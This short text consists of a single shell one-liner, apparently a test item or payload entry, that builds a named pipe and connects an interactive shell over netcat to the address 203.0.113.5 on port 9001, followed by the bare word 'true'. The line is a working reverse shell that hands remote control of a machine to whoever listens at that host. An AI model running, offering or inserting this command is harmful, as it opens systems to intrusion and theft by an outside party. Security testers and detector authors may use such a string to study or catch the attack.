sh -c 'rm -f /tmp/p; mkfifo /tmp/p; cat /tmp/p | sh -i 2>&1 | nc 203.0.113.5 9001 > /tmp/p'
true
